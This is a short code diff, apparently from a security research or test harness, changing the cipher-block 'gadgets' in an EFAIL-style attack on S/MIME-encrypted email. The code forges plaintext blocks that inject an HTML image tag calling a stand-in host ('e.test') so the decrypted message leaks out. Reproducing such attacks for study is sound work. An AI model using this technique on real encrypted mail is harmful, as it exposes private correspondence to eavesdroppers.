@@ -59,7 +59,8 @@ async def a2_smime_gadget(acted: Scene) -> bytes:
     info, content = _content(await acted.encrypted(inside, Suite.SMIME))
     algorithm = content["content_encryption_algorithm"]
     iv, data, known = algorithm["parameters"].native, content["encrypted_content"].native, inside[:BLOCK]
-    gadgets = [b"Content-type: te", b"xt/html\r\n\r\n<img ", b'src="http://e/?a']
+    # The first block is wholly the attacker's, header and all; noise stands between the others.
+    gadgets = [b"A:b\r\n\r\n<img src=", b'"http://e.test/?']
 
     def becomes(wanted: bytes) -> bytes:
         return bytes(a ^ b ^ c for a, b, c in zip(iv, known, wanted.ljust(BLOCK)[:BLOCK], strict=True))
